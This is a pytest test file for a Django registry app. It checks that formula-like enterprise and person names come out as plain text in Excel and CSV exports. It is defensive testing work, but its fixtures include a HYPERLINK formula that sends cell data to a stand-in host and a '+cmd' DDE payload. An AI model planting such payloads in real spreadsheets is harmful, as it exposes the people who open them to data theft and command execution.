"""Formula injection through exports (issue "Security, part 1" §2): names shaped like the
field cases X01_formula_names.xlsx / X02_formula_person.xlsx — text that starts with
``= + - @`` — go into the registry, and every Excel or CSV export the product writes, the
admin's included, gives them back as text: no formula in the file, the value itself kept (in
.xlsx) or prefixed with ``'`` (in CSV), and the admin's .xlsx export imports back unchanged."""

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from tablib import Dataset

from appointments.models import Appointment
from cqo_registry.responses import excel_response
from cqo_registry.spreadsheets import (
    EscapedCSV,
    EscapedXLSX,
    csv_safe,
    looks_like_formula,
    table_workbook,
)
from enterprises.models import Enterprise
from enterprises.resources import EnterpriseResource
from reports import selectors
from tests.factories import (
    AppointmentFactory,
    EnterpriseFactory,
    FilingFactory,
    PersonFactory,
)

pytestmark = pytest.mark.django_db

# X01: enterprise names; X02: a CQO's name.
HOSTILE_NAMES = [
    '=HYPERLINK("http://example.invalid/?q="&A2,"点击查看详情")',
    "+1+2测试公司",
    "@SUM(1,2)测试公司",
    "-3+4测试公司",
    "=1+1",
]
HOSTILE_PERSON = '=HYPERLINK("http://example.invalid/","张三")'
HOSTILE_DETAILS = {"legal_representative": "=2+2", "contact_phone": "=3+3", "address": "=4+4"}


@pytest.fixture
def hostile(home_town):
    """Vacant above-scale enterprises with hostile names and details, and a filed, untrained,
    principal CQO with a hostile name whose filing was late."""
    vacant = [
        EnterpriseFactory(town=home_town, name=name, **HOSTILE_DETAILS) for name in HOSTILE_NAMES
    ]
    today = timezone.localdate()
    appointment = AppointmentFactory(
        enterprise=EnterpriseFactory(town=home_town, name="城关正常企业有限公司"),
        person=PersonFactory(name=HOSTILE_PERSON),
        is_principal=True,
        appointed_on=today - timedelta(days=100),
        filed_on=today - timedelta(days=10),
    )
    FilingFactory(
        appointment=appointment,
        submitted_at=timezone.now() - timedelta(days=20),
        days_to_submit=80,
        is_late=True,
    )
    return vacant, appointment


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def text_cells(content: bytes) -> list[str]:
    """Every string of the workbook, after checking that the file holds no formula and that
    each formula-like string is a quote-prefixed text cell."""
    assert not re.search(r"<f[ >]", sheet_xml(content)), "the file holds a formula"
    values = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    if looks_like_formula(cell.value):
                        assert cell.data_type == "s", cell.value
                        assert cell.quotePrefix, cell.value
                    values.append(cell.value)
    return values


def body(response) -> bytes:
    return response.getvalue()


# --- The product's exports -------------------------------------------------------------------


def test_vacancy_list_export_keeps_hostile_text_as_text(client_for, reviewer, hostile):
    response = client_for(reviewer).get(reverse("town:vacancies_export"))
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    values = text_cells(body(response))
    for name in HOSTILE_NAMES:
        assert name in values
    for value in HOSTILE_DETAILS.values():
        if value != HOSTILE_DETAILS["address"]:  # the vacancy list has no address column
            assert value in values


@pytest.mark.parametrize(
    "code, expected",
    [
        ("T1", HOSTILE_NAMES),
        ("T3", [HOSTILE_PERSON]),
        (selectors.VACANCY_CODE, HOSTILE_NAMES),
        (selectors.PRINCIPAL_CODE, [HOSTILE_PERSON]),
        (selectors.LATE_ALL_CODE, [HOSTILE_PERSON]),
    ],
)
def test_drilldown_exports_keep_hostile_text_as_text(client_for, leader, hostile, code, expected):
    url = reverse("reports:explain_export", args=[code])
    response = client_for(leader).get(url, {"as_of": timezone.localdate().isoformat()})
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    values = text_cells(body(response))
    for name in expected:
        assert name in values


def test_untrained_export_keeps_hostile_text_as_text(client_for, reviewer, hostile):
    response = client_for(reviewer).get(reverse("training:untrained_export"))
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    assert HOSTILE_PERSON in text_cells(body(response))


def test_assessment_export_keeps_hostile_text_as_text(client_for, leader, hostile):
    response = client_for(leader).get(
        reverse("reports:assessment_xlsx"), {"as_of": timezone.localdate().isoformat()}
    )
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    values = text_cells(body(response))
    for name in HOSTILE_NAMES:
        assert name in values


def test_excel_response_turns_any_formula_of_a_workbook_into_text():
    workbook = Workbook()
    workbook.active.append(["=1+1", "+cmd|' /C calc'!A0", 42, "正常"])
    response = excel_response(workbook, filename="测试.xlsx")
    assert response["Content-Disposition"].startswith("attachment;")
    values = text_cells(body(response))
    assert values == ["=1+1", "+cmd|' /C calc'!A0", "正常"]


def test_table_writer_keeps_numbers_and_dates_and_escapes_tab_and_cr():
    today = timezone.localdate()
    columns = [("a", 10, lambda r: r[0]), ("b", 10, lambda r: r[1]), ("c", 10, lambda r: r[2])]
    rows = [("\t=1+1", -5, today), ("\r=2+2", 3.5, None)]
    response = excel_response(table_workbook("t", columns, rows), filename="t.xlsx")
    content = body(response)
    text_cells(content)  # no formula anywhere
    sheet = load_workbook(io.BytesIO(content)).active
    # XML keeps a tab; a carriage return is read back as a line break. Both stay text.
    assert sheet["A2"].value == "\t=1+1"
    assert sheet["A3"].value in ("\r=2+2", "\n=2+2")
    assert sheet["A2"].quotePrefix and sheet["A3"].quotePrefix
    assert sheet["B2"].value == -5 and sheet["B3"].value == 3.5
    assert sheet["C2"].value.date() == today


def test_csv_safe_prefixes_every_formula_trigger():
    for value in ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"]:
        assert csv_safe(value) == f"'{value}"
    assert csv_safe("城关镇") == "城关镇"
    assert csv_safe(-1) == -1


# --- The admin's exports (django-import-export) ----------------------------------------------


def admin_export(client, model: str, file_format: int) -> bytes:
    """Export every row of an admin model through the admin's export page."""
    url = reverse(f"admin:{model}_export")
    page = client.get(url)
    assert page.status_code == 200
    form = page.context["form"]
    data = {name: field.initial for name, field in form.fields.items() if field.initial is not None}
    data["format"] = str(file_format)
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_admin_uses_the_escaping_formats(settings):
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True
    assert settings.EXPORT_FORMATS == [EscapedXLSX, EscapedCSV]


def test_admin_xlsx_export_keeps_hostile_text_and_imports_back(client_for, bureau_admin, hostile):
    client = client_for(bureau_admin)
    content = admin_export(client, "enterprises_enterprise", 0)
    values = text_cells(content)
    for name in HOSTILE_NAMES:
        assert name in values
    for value in HOSTILE_DETAILS.values():
        assert value in values

    # The exported file goes back through the admin's import unchanged.
    before = {e.uscc: (e.name, e.legal_representative, e.address) for e in Enterprise.objects.all()}
    result = EnterpriseResource().import_data(Dataset().load(content, "xlsx"), dry_run=False)
    assert not result.has_validation_errors() and not result.has_errors()
    assert result.totals["new"] == 0 and result.totals["update"] == 0
    after = {e.uscc: (e.name, e.legal_representative, e.address) for e in Enterprise.objects.all()}
    assert after == before


def test_admin_appointment_export_keeps_a_hostile_cqo_name_as_text(
    client_for, bureau_admin, hostile
):
    content = admin_export(client_for(bureau_admin), "appointments_appointment", 0)
    assert HOSTILE_PERSON in text_cells(content)


def test_admin_csv_export_prefixes_hostile_text(client_for, bureau_admin, hostile):
    content = admin_export(client_for(bureau_admin), "enterprises_enterprise", 1)
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    fields = [field for row in rows for field in row]
    for name in HOSTILE_NAMES:
        assert f"'{name}" in fields
        assert name not in fields
    assert not any(looks_like_formula(field) for field in fields)
    assert Appointment.objects.count() == 1  # exporting wrote nothing


def test_admin_csv_export_opens_in_excel_with_its_chinese_intact(client_for, bureau_admin, hostile):
    """Excel on a Chinese Windows reads a CSV without a byte-order mark as GBK: every Chinese
    header and name would come out garbled. The export starts with the UTF-8 BOM and says its
    charset."""
    client = client_for(bureau_admin)
    url = reverse("admin:enterprises_enterprise_export")
    form = client.get(url).context["form"]
    data = {name: field.initial for name, field in form.fields.items() if field.initial is not None}
    data["format"] = "1"
    response = client.post(url, data)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    header = response.content.decode("utf-8-sig").splitlines()[0]
    assert header.startswith("统一社会信用代码")
